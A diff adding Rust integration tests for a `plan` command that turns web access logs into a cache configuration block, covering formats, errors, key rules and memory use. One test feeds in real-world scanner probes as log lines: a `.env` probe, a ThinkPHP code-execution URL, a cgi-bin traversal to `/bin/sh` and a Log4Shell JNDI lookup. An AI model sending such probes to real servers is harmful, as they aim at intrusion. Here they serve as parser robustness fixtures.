@@ -1,0 +1,406 @@
+//! `plan`: from an access log to a `[cache]` block.
+
+use std::{
+    fmt::Write as _,
+    fs,
+    io::{self, Write},
+    process::Stdio,
+};
+
+use flate2::{Compression, write::GzEncoder};
+use serde_json::Value;
+
+use crate::support::{ProgramOutput, Sandbox};
+
+/// Two minutes of a server: five pages, one after another, a request every two seconds; times of loads, and a scanner now and then.
+fn small_log() -> String {
+    let mut log = String::new();
+    for n in 0..60 {
+        let (minute, second) = (n / 30, n % 30 * 2);
+        let (page, bytes) = (n % 5, 2_000 + n % 5);
+        line(
+            &mut log,
+            &format!("13:0{minute}:{second:02}"),
+            &format!("GET /page/{page} HTTP/1.1"),
+            200,
+            bytes,
+        );
+        if n % 20 == 0 {
+            line(&mut log, &format!("13:0{minute}:{second:02}"), "POST /xmlrpc.php HTTP/1.1", 405, 9);
+        }
+    }
+    log
+}
+
+/// A line of the Combined Log Format.
+fn line(log: &mut String, time: &str, request: &str, status: u16, bytes: usize) {
+    let _ = writeln!(
+        log,
+        r#"203.0.113.9 - - [10/Oct/2025:{time} +0000] "{request}" {status} {bytes} "-" "curl/8""#
+    );
+}
+
+fn plan(sandbox: &Sandbox, arguments: &[&str]) -> ProgramOutput {
+    let output = sandbox.stockade(&[&["plan"], arguments].concat());
+    assert_eq!(output.code, 0, "{}", output.stderr);
+    output
+}
+
+fn json(sandbox: &Sandbox, arguments: &[&str]) -> Value {
+    let output = plan(sandbox, &[arguments, &["--format", "json"]].concat());
+    serde_json::from_str(&output.stdout).expect("one JSON object")
+}
+
+/// Runs `plan -` with this on its standard input.
+fn piped(
+    sandbox: &Sandbox,
+    arguments: &[&str],
+    write: impl FnOnce(&mut dyn Write) -> io::Result<()>,
+) -> Piped {
+    let mut child = sandbox
+        .command()
+        .args(["plan", "-"])
+        .args(arguments)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("the program starts");
+    let mut input = io::BufWriter::new(child.stdin.take().expect("a pipe"));
+    write(&mut input).and_then(|()| input.flush()).expect("the program reads all of it");
+    drop(input);
+    let status = format!("/proc/{}/status", child.id());
+    let mut peak_kib = 0;
+    // The output fits into the pipe.
+    while child.try_wait().expect("a child").is_none() {
+        let text = fs::read_to_string(&status).unwrap_or_default();
+        let peak = text.lines().find_map(|line| line.strip_prefix("VmHWM:")?.strip_suffix("kB"));
+        peak_kib = peak.and_then(|kib| kib.trim().parse().ok()).unwrap_or(peak_kib);
+        std::thread::yield_now();
+    }
+    Piped {
+        output: ProgramOutput::of(child.wait_with_output().expect("it has ended")),
+        peak_mib: peak_kib >> 10,
+    }
+}
+
+struct Piped {
+    output: ProgramOutput,
+    /// The greatest resident memory.
+    peak_mib: u64,
+}
+
+#[test]
+fn answer_comes_first_and_the_block_last() {
+    let sandbox = Sandbox::new();
+    let log = sandbox.file("access.log", &small_log());
+    let output = plan(&sandbox, &[&log, "--memory", "1MiB", "--origin-latency", "100ms"]);
+    let lines: Vec<&str> = output.stdout.lines().collect();
+    // Each page is loaded when it is requested first, and once more after its ttl of a minute.
+    assert_eq!(
+        lines[0],
+        "1MiB, sieve, ttl 60s with swr 10s: hit ratio 83.3 %, 0.1 requests a second to the origin at the busiest minute, none older \
+         than 70s; doubling the memory gives 0.0 points, halving costs 0.0."
+    );
+    assert_eq!(lines[1], "");
+    let about = format!("{log}: 60 requests for 5 keys in ");
+    assert!(lines[2].starts_with(&about), "{}", lines[2]);
+    assert!(lines.contains(&"- 3 requests that a cache does not answer are left out."), "{}", output.stdout);
+    let block = "\n[cache]\nstrategy = \"swr\"\nttl      = \"60s\"\nswr      = \"10s\"\nlimit    = { bytes = \"1MiB\", policy = \"sieve\" }\n";
+    assert!(output.stdout.ends_with(block), "{}", output.stdout);
+    assert_eq!(output.stderr, "format: clf\n");
+
+    let markdown = plan(&sandbox, &[&log, "--format", "md", "--sizes", "1,5", "--policy", "lru"]).stdout;
+    assert!(markdown.contains(&format!("```toml\n{}", "[cache]\n")), "{markdown}");
+    assert!(
+        markdown.contains("| size | lru |\n|---|---:|\n| 1 entries | 0.0 |\n| 5 entries |"),
+        "{markdown}"
+    );
+}
+
+#[test]
+fn json_has_the_shape_of_the_contract() {
+    let sandbox = Sandbox::new();
+    let log = sandbox.file("access.log", &(small_log() + "not a line of it\n"));
+    let plan = json(&sandbox, &[&log, "--policy", "lru,belady", "--ttl", "10s,1m", "--sizes", "64KiB,1MiB"]);
+    assert_eq!((&plan["requests"], &plan["bad_lines"], &plan["keys"]), (&60.into(), &1.into(), &5.into()));
+    let recommendation = &plan["recommendation"];
+    assert_eq!(recommendation["cache"]["ttl"], "60s");
+    assert_eq!(recommendation["cache"]["limit"]["policy"], "lru");
+    assert!(recommendation["cache"]["limit"]["bytes"].is_u64(), "{recommendation}");
+    assert_eq!(recommendation["stale_max_s"], 70.0);
+    for ratio in ["hit_ratio", "source_loads_per_s_max"] {
+        assert!(recommendation[ratio].as_f64().is_some_and(|value| value > 0.0), "{ratio}: {recommendation}");
+    }
+    let curves = plan["curves"].as_array().expect("curves");
+    let of: Vec<_> = curves.iter().map(|curve| (curve["policy"].as_str(), curve["ttl_s"].as_f64())).collect();
+    let expected = [("lru", 10.0), ("lru", 60.0), ("belady", 10.0), ("belady", 60.0)];
+    assert_eq!(of, expected.map(|(policy, ttl_s)| (Some(policy), Some(ttl_s))));
+    for point in curves.iter().flat_map(|curve| curve["points"].as_array().expect("points")) {
+        assert!(point["bytes"] == 65_536 || point["bytes"] == 1 << 20, "{point}");
+        assert!(point["miss_ratio"].as_f64().is_some_and(|ratio| (0.0..=1.0).contains(&ratio)), "{point}");
+        assert_eq!(point["exact"], true);
+    }
+    // The recommendation gives what its curve says at the same size.
+    let chosen = &recommendation["cache"]["limit"]["bytes"];
+    let points = curves[1]["points"].as_array().expect("points");
+    let point = points.iter().find(|point| point["bytes"] == *chosen).expect("it is one of the sizes");
+    let hits = 1.0 - point["miss_ratio"].as_f64().expect("a ratio");
+    assert_eq!(Value::from(hits), recommendation["hit_ratio"]);
+
+    let entries = json(&sandbox, &[&log, "--memory", "4", "--ttl", "never"]);
+    assert_eq!(entries["recommendation"]["cache"]["limit"]["entries"], 4);
+    assert!(entries["recommendation"]["stale_max_s"].is_null() && entries["curves"][0]["ttl_s"].is_null());
+    assert_eq!(entries["curves"].as_array().map(Vec::len), Some(8));
+    let all = json(&sandbox, &[&log, "--policy", "all"]);
+    assert_eq!(all["curves"].as_array().map(Vec::len), Some(stockade_plan::POLICIES.len()));
+}
+
+#[test]
+fn block_is_accepted_in_an_experiment() {
+    let sandbox = Sandbox::new();
+    let log = sandbox.file("access.log", &small_log());
+    let one = sandbox.file("one.log", small_log().lines().next().expect("a line"));
+    let arguments: [&[&str]; 6] = [
+        &[&log],
+        &[&log, "--ttl", "never"],
+        &[&log, "--staleness", "5s"],
+        &[&log, "--memory", "100"],
+        &[&log, "--ttl", "1s", "--staleness", "1s", "--policy", "lfu"],
+        // Nothing is requested again.
+        &[&one],
+    ];
+    for arguments in arguments {
+        let text = plan(&sandbox, arguments).stdout;
+        let block = &text[text.find("[cache]\n").expect("a block")..];
+        let experiment = format!(
+            "title = \"A plan\"\n[target]\nkind = \"engine\"\n[origin]\nsource = \"simulated:50\"\nlatency = \"5ms\"\n{block}\
+             [load]\nrate = \"10/s\"\nduration = \"1s\"\n"
+        );
+        let file = sandbox.file("plan.toml", &experiment);
+        let check = sandbox.stockade(&["check", &file]);
+        assert_eq!(check.code, 0, "{block}\n{}", check.stderr);
+    }
+}
+
+#[test]
+fn several_files_standard_input_and_gzip_are_one_log() {
+    let sandbox = Sandbox::new();
+    let log = small_log();
+    let whole = sandbox.file("access.log", &log);
+    let (half, _) = log.match_indices('\n').nth(30).expect("a line");
+    let (first, second) = (sandbox.file("a.log", &log[..=half]), sandbox.file("b.log", &log[half + 1..]));
+    let packed = sandbox.path().join("access.log.gz");
+    let mut encoder = GzEncoder::new(fs::File::create(&packed).expect("writable"), Compression::fast());
+    encoder.write_all(log.as_bytes()).and_then(|()| encoder.finish().map(drop)).expect("written");
+
+    let expected = json(&sandbox, &[&whole]);
+    assert_eq!(json(&sandbox, &[&first, &second]), expected);
+    // A log that was rotated may come in any order.
+    assert_eq!(json(&sandbox, &[&second, &first]), expected);
+    assert_eq!(json(&sandbox, &[packed.to_str().expect("UTF-8")]), expected);
+    let Piped { output, .. } =
+        piped(&sandbox, &["--format", "json"], |input| input.write_all(log.as_bytes()));
+    assert_eq!((output.code, serde_json::from_str(&output.stdout).ok()), (0, Some(expected)));
+}
+
+#[test]
+fn bad_usage_and_bad_logs_are_refused_with_one_message() {
+    let sandbox = Sandbox::new();
+    let log = sandbox.file("access.log", &small_log());
+    let empty = sandbox.file("empty.log", "");
+    let mut posts = String::new();
+    (0..3).for_each(|_| line(&mut posts, "13:00:00", "POST /form HTTP/1.1", 200, 12));
+    let posts = sandbox.file("posts.log", &posts);
+    let rubbish = sandbox.path().join("rubbish.bin");
+    let bytes: Vec<u8> = (0..20_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
+    fs::write(&rubbish, bytes).expect("writable");
+    let rubbish = rubbish.to_str().expect("UTF-8");
+    let cases: [(&[&str], &[&str]); 16] = [
+        (&[], &["<LOG>"]),
+        (&["missing.log"], &["missing.log", "No such file"]),
+        (&["."], &["it is a folder", "name a file"]),
+        (&[&empty], &["empty.log", "0 lines"]),
+        (&[rubbish], &["rubbish.bin", "binary", "oracle-general"]),
+        (&[&posts], &["posts.log", "3 lines, 3 other requests", "--status"]),
+        (&[&log, "--input", "clff"], &["`clff`", "did you mean `clf`?"]),
+        (&[&log, "--input", "twitter"], &["access.log:1", "63 of 63 lines", "`twitter`"]),
+        (&[&log, "--policy", "seive"], &["unknown policy `seive`", "did you mean `sieve`?"]),
+        (&[&log, "--memory", "0"], &["--memory", "at least 1"]),
+        (&[&log, "--memory", "10MB/s"], &["--memory", "10MB/s"]),
+        (&[&log, "--ttl", "60"], &["`60` has no unit", "`60s`"]),
+        (&[&log, "--staleness", "5"], &["`5` has no unit"]),
+        (&[&log, "--sizes", "0%"], &["--sizes", "above 0 %"]),
+        (&[&log, "--status", "1000"], &["--status", "1000"]),
+        (&[&log, "--format", "htm"], &["'htm'", "'html'"]),
+    ];
+    for (arguments, words) in cases {
+        let output = sandbox.stockade(&[&["plan"], arguments].concat());
+        output.assert_refused(2, words);
+        assert_eq!(output.stderr.matches("error: ").count(), 1, "{arguments:?}: {}", output.stderr);
+    }
+}
+
+/// What scanners send, as nginx and Apache log it.
+#[test]
+fn log_of_attacks_is_answered() {
+    let sandbox = Sandbox::new();
+    let mut log = String::new();
+    for (request, status) in [
+        ("GET / HTTP/1.1", 200),
+        (r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\x9D\xC8", 400),
+        ("-", 400),
+        ("", 400),
+        ("GET /.env HTTP/1.1", 404),
+        (r"GET /index.php?s=/Index/\x5Cthink\x5Capp/invokefunction&vars[1][]=<?php HTTP/1.1", 404),
+        ("PRI * HTTP/2.0", 400),
+        ("CONNECT example.org:443 HTTP/1.1", 400),
+        ("GET http://example.org/proxy HTTP/1.1", 404),
+        (r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400),
+        ("POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400),
+        ("SSH-2.0-Go", 400),
+        (r"GET /${jndi:ldap://203.0.113.9/a}\x22 HTTP/1.1", 404),
+        ("GET /\u{fffd}\u{202e} HTTP/1.1", 404),
+        ("OPTIONS sip:nm SIP/2.0", 400),
+        ("GET / HTTP/1.1", 200),
+    ] {
+        line(&mut log, "13:00:00", request, status, 1_200);
+    }
+    line(&mut log, "13:00:01", &format!("GET /{} HTTP/1.1", "A".repeat(200_000)), 414, 177);
+    let file = sandbox.file("attacks.log", &log);
+    let output = plan(&sandbox, &[&file]);
+    assert!(
+        output.stderr.contains("left out: ") && output.stderr.contains("more than 64 KiB"),
+        "{}",
+        output.stderr
+    );
+    let plan = json(&sandbox, &[&file]);
+    assert_eq!((&plan["requests"], &plan["keys"], &plan["bad_lines"]), (&7.into(), &6.into(), &1.into()));
+    // The second `GET /` is a hit, so the cache has to be large enough to store it.
+    let hit_ratio = plan["recommendation"]["hit_ratio"].as_f64().expect("a ratio");
+    assert!((hit_ratio - 1.0 / 7.0).abs() < 1e-9, "{hit_ratio}");
+    // A long URL alone is no log, and its text is not in the message.
+    let alone = sandbox.file("alone.log", &"A".repeat(1_000_000));
+    let refused = sandbox.stockade(&["plan", &alone]);
+    refused.assert_refused(2, &["alone.log"]);
+    assert!(refused.stderr.len() < 2_000, "{} bytes", refused.stderr.len());
+}
+
+#[test]
+fn log_of_one_line_and_times_that_run_backwards_are_answered() {
+    let sandbox = Sandbox::new();
+    let log = small_log();
+    let one = sandbox.file("one.log", log.lines().next().expect("a line"));
+    let output = plan(&sandbox, &[&one]);
+    assert!(output.stdout.contains(": hit ratio 0.0 %, "), "{}", output.stdout);
+    assert!(output.stdout.contains("- No request finds a fresh response: "), "{}", output.stdout);
+
+    let reversed: Vec<&str> = log.lines().rev().collect();
+    let reversed = sandbox.file("reversed.log", &(reversed.join("\n") + "\n"));
+    let output = plan(&sandbox, &[&reversed]);
+    assert!(
+        output.stdout.contains("- The lines were sorted by time: 59 of them were behind"),
+        "{}",
+        output.stdout
+    );
+    let forwards = sandbox.file("forwards.log", &log);
+    assert_eq!(
+        json(&sandbox, &[&reversed])["recommendation"],
+        json(&sandbox, &[&forwards])["recommendation"]
+    );
+}
+
+#[test]
+fn keys_follow_the_rules() {
+    let sandbox = Sandbox::new();
+    let mut log = String::new();
+    for (n, url) in ["/a?utm=1&id=1", "/a?utm=2&id=1", "/a?id=1", "/a?id=2"].into_iter().enumerate() {
+        let _ = writeln!(
+            log,
+            r#"{{"time":"2025-10-10T13:00:0{n}Z","request":"GET {url} HTTP/1.1","status":{},"host":"h{}","body_bytes_sent":500}}"#,
+            if n == 3 { 500 } else { 200 },
+            n % 2
+        );
+    }
+    let file = sandbox.file("access.json", &log);
+    for (arguments, keys) in [
+        (&["--by-host"][..], 3),
+        (&[], 3),
+        (&["--drop-parameters", "utm"], 1),
+        (&["--drop-parameters", "utm", "--by-host"], 2),
+        (&["--drop-parameters", "all"], 1),
+        (&["--status", "200,500"], 4),
+        (&["--status", "500"], 1),
+        (&["--status", "200,500", "--drop-parameters", "all"], 1),
+    ] {
+        let plan = json(&sandbox, &[&[file.as_str()], arguments].concat());
+        assert_eq!(plan["keys"], keys, "{arguments:?}");
+    }
+}
+
+#[test]
+fn pattern_of_the_server_names_the_fields() {
+    let sandbox = Sandbox::new();
+    let pattern = r"$msec|$request_method|$uri|$status|$body_bytes_sent|$upstream_response_time";
+    let mut log = String::new();
+    (0..20).for_each(|n| {
+        let _ = writeln!(log, "17601{n:05}.125|GET|/{}|200|700|0.050", n % 4);
+    });
+    let file = sandbox.file("own.log", &log);
+    let output = plan(&sandbox, &["--input", pattern, &file]);
+    assert!(output.stdout.contains("20 requests for 4 keys in 20s, "), "{}", output.stdout);
+    assert!(output.stdout.contains("- A load takes 50ms, the median of the log."), "{}", output.stdout);
+    let trace = sandbox.file("trace.txt", "a\nb\na\nc\na\nb\n");
+    let plan =
+        json(&sandbox, &[&trace, "--input", "keys", "--ttl", "never", "--sizes", "1,2,3", "--policy", "lru"]);
+    let points = plan["curves"][0]["points"].as_array().expect("points");
+    let misses: Vec<_> =
+        points.iter().map(|point| (6.0 * point["miss_ratio"].as_f64().unwrap()).round()).collect();
+    assert_eq!(misses, [6.0, 4.0, 3.0]);
+}
+
+#[test]
+fn closed_pipe_ends_it_without_an_error() {
+    let sandbox = Sandbox::new();
+    let log = sandbox.file("access.log", &small_log());
+    for format in ["text", "html", "md", "json"] {
+        let mut child = sandbox
+            .command()
+            .args(["plan", &log, "--format", format, "--policy", "all"])
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("the program starts");
+        drop(child.stdout.take());
+        let output = child.wait_with_output().expect("it ends");
+        let errors = String::from_utf8_lossy(&output.stderr).into_owned();
+        assert_eq!((output.status.code(), errors.as_str()), (Some(0), "format: clf\n"), "{format}");
+    }
+}
+
+/// Requests are kept, at 16 bytes each, and numbers of keys. The text of the log is not.
+#[test]
+fn memory_is_a_fraction_of_the_log() {
+    let sandbox = Sandbox::new();
+    let padding = "x".repeat(600);
+    let run = |lines: u32| {
+        let Piped { output, peak_mib } = piped(&sandbox, &["--policy", "lru"], |input| {
+            for n in 0..lines {
+                let (hour, minute, second) = (n / 360_000 % 24, n / 6_000 % 60, n / 100 % 60);
+                writeln!(
+                    input,
+                    r#"203.0.113.9 - - [10/Oct/2025:{hour:02}:{minute:02}:{second:02} +0000] "GET /{n}/{padding} HTTP/1.1" 200 1200"#
+                )?;
+            }
+            Ok(())
+        });
+        assert_eq!(output.code, 0);
+        let about =
+            format!("requests for {} keys in ", stockade_model::units::format_count(u64::from(lines)));
+        assert!(output.stdout.contains(&about), "{}", output.stdout);
+        peak_mib
+    };
+    // 72 and 144 MB, each line a URL of its own.
+    let (half, whole) = (run(100_000), run(200_000));
+    assert!(half > 4 && whole < 72, "{half} MiB, {whole} MiB with twice as many lines");
+}
